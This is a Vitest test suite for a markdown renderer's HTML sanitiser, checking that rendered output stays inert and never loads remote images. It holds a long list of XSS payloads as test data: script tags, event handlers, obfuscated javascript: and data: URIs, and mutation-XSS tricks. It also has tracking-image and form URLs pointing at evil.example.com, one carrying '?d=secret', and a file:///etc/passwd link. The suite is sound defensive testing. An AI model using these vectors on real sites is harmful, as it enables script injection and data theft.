// @vitest-environment jsdom
import { beforeAll, describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../src/ui/markdown';

// Vitest exposes its JSDOM instance; moving the page to another URL shows how each URL resolves there.
const page = (globalThis as unknown as { jsdom: { reconfigure(options: { url: string }): void } })
  .jsdom;
const httpsPage = 'https://app.example.org/map/';
const httpPage = 'http://app.example.org/map/';

beforeAll(() => page.reconfigure({ url: httpsPage }));

function render(markdown: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = renderMarkdown(markdown);
  return container;
}

// Attributes that make a browser fetch or send something; none may survive on rendered markdown.
const urlAttributes = [
  'srcset',
  'poster',
  'action',
  'formaction',
  'xlink:href',
  'background',
  'ping',
  'data',
  'cite',
  'longdesc',
  'lowsrc',
  'usemap',
];

// jsdom resolves `img.src` with the URL parser browsers use, against the page: whatever spelling the
// attribute has, this is where the image would be fetched from.
function loadsFromElsewhere(element: Element): boolean {
  const resolved = new URL((element as HTMLImageElement).src);
  if (resolved.protocol === 'data:') return !/^data:image\/(png|jpeg|gif|webp)/.test(resolved.href);
  return resolved.origin !== window.location.origin;
}

// What an attacker would need to survive sanitising for script to run or data to leave the page.
function dangers(container: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of container.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (
      [
        'script',
        'iframe',
        'object',
        'embed',
        'svg',
        'math',
        'style',
        'form',
        'link',
        'meta',
        'base',
      ].includes(tag)
    ) {
      found.push(`<${tag}>`);
    }
    for (const attribute of element.attributes) {
      // Browsers ignore whitespace and control characters inside a URL scheme, so the check does too.
      const value = [...attribute.value]
        .filter((character) => character.charCodeAt(0) > 32)
        .join('')
        .toLowerCase();
      if (attribute.name.startsWith('on')) found.push(`${tag}[${attribute.name}]`);
      if (attribute.name === 'style') found.push(`${tag}[style]`);
      if (
        /^(?:javascript|vbscript|data):/.test(value) &&
        !(tag === 'img' && /^data:image\/(png|jpeg|gif|webp)/.test(value))
      ) {
        found.push(`${tag}[${attribute.name}=${value.slice(0, 30)}]`);
      }
      if (tag === 'img' && attribute.name === 'src' && loadsFromElsewhere(element)) {
        found.push(`remote img ${(element as HTMLImageElement).src}`);
      }
      if (attribute.name === 'href' && tag !== 'a') found.push(`${tag}[href]`);
      if (attribute.name === 'src' && tag !== 'img') found.push(`${tag}[src]`);
      if (urlAttributes.includes(attribute.name)) found.push(`${tag}[${attribute.name}]`);
    }
  }
  return found;
}

const hostile: Array<{ name: string; markdown: string }> = [
  { name: 'a script tag', markdown: 'hi <script>alert(1)</script> there' },
  { name: 'an img onerror', markdown: '<img src="x" onerror="alert(1)">' },
  { name: 'a markdown javascript: link', markdown: '[click](javascript:alert(1))' },
  { name: 'a mixed-case javascript: link', markdown: '[click](JaVaScRiPt:alert(1))' },
  {
    name: 'an entity-encoded javascript: link',
    markdown: '<a href="&#106;avascript:alert(1)">x</a>',
  },
  {
    name: 'a javascript: link with a tab inside',
    markdown: '<a href="java\tscript:alert(1)">x</a>',
  },
  { name: 'an angle-bracket javascript: link', markdown: '[x](<javascript:alert(1)>)' },
  { name: 'a reference-style javascript: link', markdown: '[x][1]\n\n[1]: javascript:alert(1)' },
  {
    name: 'a data: HTML link',
    markdown: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  },
  { name: 'a vbscript: link', markdown: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'an svg onload', markdown: '<svg onload="alert(1)"><circle r="1"/></svg>' },
  { name: 'an svg with a script inside', markdown: '<svg><script>alert(1)</script></svg>' },
  { name: 'an iframe', markdown: '<iframe src="https://evil.example.com"></iframe>' },
  { name: 'an iframe srcdoc', markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  {
    name: 'a style tag with expression',
    markdown: '<style>body { width: expression(alert(1)) }</style>',
  },
  {
    name: 'a style attribute with expression',
    markdown: '<p style="width: expression(alert(1))">x</p>',
  },
  { name: 'an object and an embed', markdown: '<object data="x.swf"></object><embed src="x.swf">' },
  {
    name: 'a form with formaction',
    markdown: '<form><button formaction="javascript:alert(1)">go</button></form>',
  },
  { name: 'a body onload', markdown: '<body onload="alert(1)">' },
  {
    name: 'a details ontoggle',
    markdown: '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  },
  {
    name: 'a math element with a link',
    markdown: '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
  },
  {
    name: 'an attribute breaking out of an image title',
    markdown: '![a](x.png "t\\" onerror=\\"alert(1))',
  },
  { name: 'an image with a javascript: source', markdown: '![a](javascript:alert(1))' },
  {
    name: 'an image with an svg data URI',
    markdown: '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  },
  { name: 'a remote tracking image', markdown: '![x](https://evil.example.com/p.png?d=secret)' },
  { name: 'a protocol-relative image', markdown: '<img src="//evil.example.com/p.png">' },
  {
    name: 'an img srcset',
    markdown: '<img src="a.png" srcset="https://evil.example.com/p.png 1x">',
  },
  {
    name: 'a meta refresh',
    markdown: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  },
  { name: 'a base tag', markdown: '<base href="javascript:alert(1)//">' },
  { name: 'a link tag', markdown: '<link rel="stylesheet" href="https://evil.example.com/x.css">' },
  {
    name: 'an input that is not a checkbox',
    markdown: '<input type="image" src="x" onerror="alert(1)">',
  },
  { name: 'a script inside a table cell', markdown: '| a |\n| - |\n| <script>alert(1)</script> |' },
  { name: 'an onclick inside a list', markdown: '- <span onclick="alert(1)">x</span>' },
  {
    name: 'a mutation XSS via noscript',
    markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  { name: 'an HTML comment trick', markdown: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  {
    name: 'a nested markdown link inside an html attribute',
    markdown: '<a title="[x](javascript:alert(1))" href="#">y</a>',
  },
  {
    name: 'a link whose text is a javascript: link',
    markdown: '[[x](javascript:alert(1))](https://example.com)',
  },
  { name: 'an autolink with javascript:', markdown: '<javascript:alert(1)>' },
];

describe('renderMarkdown keeps hostile input inert', () => {
  it.each(hostile)('$name', ({ markdown }) => {
    const container = render(markdown);
    expect(dangers(container)).toEqual([]);
  });

  it('keeps the visible text of a removed script harmless', () => {
    const container = render('before <script>alert(1)</script> after');
    expect(container.querySelector('script')).toBeNull();
    expect(container.textContent).toContain('before');
    expect(container.textContent).toContain('after');
  });

  it('turns a remote image into a link instead of loading it', () => {
    const link = render('![chart](https://example.com/chart.png)').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.com/chart.png');
    expect(link?.textContent).toBe('image: chart');
    expect(render('![chart](https://example.com/chart.png)').querySelector('img')).toBeNull();
  });

  it('loads remote images only when asked to', () => {
    const container = document.createElement('div');
    container.innerHTML = renderMarkdown('![chart](https://example.com/chart.png)', {
      allowRemoteImages: true,
    });
    expect(container.querySelector('img')?.getAttribute('src')).toBe(
      'https://example.com/chart.png',
    );
  });

  it('drops class names other than a code language, so answers cannot borrow the app styles', () => {
    const container = render('<p class="mw-approval-card">fake</p>');
    expect(container.querySelector('p')?.hasAttribute('class')).toBe(false);
  });
});

// Image sources a browser would fetch from evil.example.com: each must end up as a link, never an image.
const remoteImages: Array<{ name: string; markdown: string }> = [
  { name: 'an absolute URL', markdown: '![x](https://evil.example.com/p.png?d=secret)' },
  { name: 'a mixed-case scheme', markdown: '<img src="HtTpS://evil.example.com/p.png">' },
  { name: 'a protocol-relative URL', markdown: '<img src="//evil.example.com/p.png">' },
  { name: 'a leading space', markdown: '<img src=" //evil.example.com/p.png">' },
  { name: 'a leading control character', markdown: '<img src="\u0001//evil.example.com/p.png">' },
  { name: 'two backslashes', markdown: '<img src="\\\\evil.example.com/p.png">' },
  { name: 'escaped slashes', markdown: '<img src="\\/\\/evil.example.com/p.png">' },
  { name: 'a slash, a tab and a slash', markdown: '<img src="/\t/evil.example.com/p.png">' },
  { name: 'a slash, a newline and a slash', markdown: '<img src="/\n/evil.example.com/p.png">' },
  { name: 'an entity-encoded tab', markdown: '<img src="/&#9;/evil.example.com/p.png">' },
  { name: 'an entity-encoded newline', markdown: '<img src="/&#10;/evil.example.com">' },
  { name: 'a tab inside the scheme', markdown: '<img src="ht\ttps://evil.example.com/p.png">' },
  {
    name: 'an entity inside the scheme',
    markdown: '<img src="&#104;ttps&#58;//evil.example.com/p.png">',
  },
  {
    name: 'the page host as user name',
    markdown: '<img src="https://app.example.org@evil.example.com/p.png">',
  },
  { name: 'a markdown reference', markdown: '![x][1]\n\n[1]: //evil.example.com/p.png' },
  { name: 'markdown angle brackets', markdown: '![x](<//evil.example.com/p.png>)' },
];

// Attributes besides img[src] that would make the browser load something: all must be gone.
const otherLoads: Array<{ name: string; markdown: string }> = [
  {
    name: 'a srcset list',
    markdown:
      '<img src="a.png" srcset="a.png 1x, https://evil.example.com/p.png 2x, //evil.example.com/q.png 3x">',
  },
  {
    name: 'a picture source',
    markdown:
      '<picture><source srcset="https://evil.example.com/p.png"><img src="a.png"></picture>',
  },
  { name: 'a video poster', markdown: '<video poster="https://evil.example.com/p.png"></video>' },
  {
    name: 'an SVG image href',
    markdown: '<svg><image href="https://evil.example.com/p.png"/></svg>',
  },
  {
    name: 'an SVG image xlink:href',
    markdown:
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="//evil.example.com/p.png"/></svg>',
  },
  { name: 'a form action', markdown: '<form action="https://evil.example.com/"><p>x</p></form>' },
  { name: 'a table background', markdown: '<table background="https://evil.example.com/p.png">' },
  { name: 'a link ping', markdown: '<a href="#top" ping="https://evil.example.com/">x</a>' },
  { name: 'a src on a paragraph', markdown: '<p src="https://evil.example.com/p.png">x</p>' },
  { name: 'an image input', markdown: '<input type="image" src="https://evil.example.com/p.png">' },
  { name: 'a blob image', markdown: '<img src="blob:https://evil.example.com/1234">' },
];

describe.each([
  { label: 'https', url: httpsPage },
  { label: 'http', url: httpPage },
])('renderMarkdown on an $label page never loads an image from another origin', ({ url }) => {
  beforeAll(() => page.reconfigure({ url }));

  it.each(remoteImages)('$name becomes a link', ({ markdown }) => {
    const container = render(markdown);
    expect(dangers(container)).toEqual([]);
    expect(container.querySelector('img')).toBeNull();
    const link = container.querySelector('a');
    expect(new URL(link?.getAttribute('href') ?? '', window.location.href).hostname).toBe(
      'evil.example.com',
    );
    expect(link?.textContent).toMatch(/^image: /);
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it.each(otherLoads)('$name loads nothing', ({ markdown }) => {
    expect(dangers(render(markdown))).toEqual([]);
  });

  it('keeps images from its own origin', () => {
    const sources = [
      ...render('![a](chart.png) ![b](/assets/b.png) <img src="./c.png">').querySelectorAll('img'),
    ].map((image) => image.src);
    expect(sources).toEqual([`${url}chart.png`, new URL('/assets/b.png', url).href, `${url}c.png`]);
  });
});

describe('renderMarkdown resolves a scheme without slashes as the page would', () => {
  it('keeps an image whose scheme matches the page on the page origin', () => {
    page.reconfigure({ url: httpsPage });
    const image = render('<img src="https:chart.png">').querySelector('img');
    expect(image?.src).toBe(`${httpsPage}chart.png`);
  });

  it.each([
    { pageUrl: httpsPage, source: 'http:evil.example.com/p.png' },
    { pageUrl: httpPage, source: 'https:evil.example.com/p.png' },
  ])('treats $source as remote on $pageUrl', ({ pageUrl, source }) => {
    page.reconfigure({ url: pageUrl });
    const container = render(`<img src="${source}">`);
    page.reconfigure({ url: httpsPage });
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('a')?.getAttribute('href')).toBe(
      `${source.split(':')[0]}://evil.example.com/p.png`,
    );
  });
});

describe('renderMarkdown keeps every link on the web or in the mail client', () => {
  const scripted = [
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '[x](javascript&#58;alert(1))',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="blob:https://app.example.org/1234">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="about:blank">x</a>',
  ];

  it.each(scripted)('%s loses its href', (markdown) => {
    const link = render(markdown).querySelector('a');
    expect(link?.hasAttribute('href')).toBe(false);
  });

  it('opens a protocol-relative or backslash link in a new tab without the opener', () => {
    const links = [
      ...render(
        '<a href="//evil.example.com/">a</a> <a href="\\\\evil.example.com/">b</a>',
      ).querySelectorAll('a'),
    ];
    for (const link of links) {
      expect(new URL(link.getAttribute('href') ?? '', window.location.href).hostname).toBe(
        'evil.example.com',
      );
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    }
    expect(links).toHaveLength(2);
  });
});

describe('renderMarkdown renders ordinary markdown', () => {
  it('renders a GFM table with alignment', () => {
    const container = render('| city | mag |\n| :--- | ---: |\n| Lima | 5.1 |\n| Kobe | 6.9 |');
    const cells = [...container.querySelectorAll('td')].map((cell) => cell.textContent);
    expect(cells).toEqual(['Lima', '5.1', 'Kobe', '6.9']);
    expect(container.querySelectorAll('th')).toHaveLength(2);
    expect(container.querySelector('td:last-child')?.getAttribute('align')).toBe('right');
  });

  it('keeps the language class of a code fence and its text verbatim', () => {
    const container = render('```sql\nSELECT * FROM t WHERE a < 3 AND b > 2;\n```');
    const code = container.querySelector('pre > code');
    expect(code?.className).toBe('language-sql');
    expect(code?.textContent).toBe('SELECT * FROM t WHERE a < 3 AND b > 2;\n');
  });

  it('renders ordered, unordered and task lists', () => {
    const container = render('1. one\n2. two\n\n- a\n- b\n\n- [x] done\n- [ ] todo');
    expect([...container.querySelectorAll('ol > li')].map((item) => item.textContent)).toEqual([
      'one',
      'two',
    ]);
    const boxes = [...container.querySelectorAll('input')];
    expect(boxes.map((box) => [box.type, box.checked, box.disabled])).toEqual([
      ['checkbox', true, true],
      ['checkbox', false, true],
    ]);
  });

  it('opens links in a new tab without giving the page access to the opener', () => {
    const link = render('see [USGS](https://earthquake.usgs.gov/)').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://earthquake.usgs.gov/');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('keeps mailto and relative links', () => {
    const links = [
      ...render('[a](mailto:ana@example.com) [b](./docs/x.md) [c](#top)').querySelectorAll('a'),
    ];
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'mailto:ana@example.com',
      './docs/x.md',
      '#top',
    ]);
  });

  it('keeps a small inline PNG image', () => {
    const source =
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    expect(render(`![dot](${source})`).querySelector('img')?.getAttribute('src')).toBe(source);
  });

  it('renders emphasis, headings, quotes, strikethrough and inline code', () => {
    const container = render('# Title\n\n> **bold** _it_ ~~gone~~ `x < y`');
    expect(container.querySelector('h1')?.textContent).toBe('Title');
    expect(container.querySelector('blockquote strong')?.textContent).toBe('bold');
    expect(container.querySelector('em')?.textContent).toBe('it');
    expect(container.querySelector('del')?.textContent).toBe('gone');
    expect(container.querySelector('code')?.textContent).toBe('x < y');
  });

  it('shows angle brackets in prose as text', () => {
    expect(render('mag < 5 and depth > 10').textContent?.trim()).toBe('mag < 5 and depth > 10');
  });
});

describe('markdown with its HTML as text (the report)', () => {
  it('renders the markdown and shows the HTML as written', () => {
    const html = renderMarkdown('The **ten** listed <b>above</b>.', { htmlAsText: true });
    expect(html).toContain('<strong>ten</strong>');
    expect(html).toContain('&lt;b&gt;above&lt;/b&gt;');
    expect(html).not.toContain('<b>');
  });
});
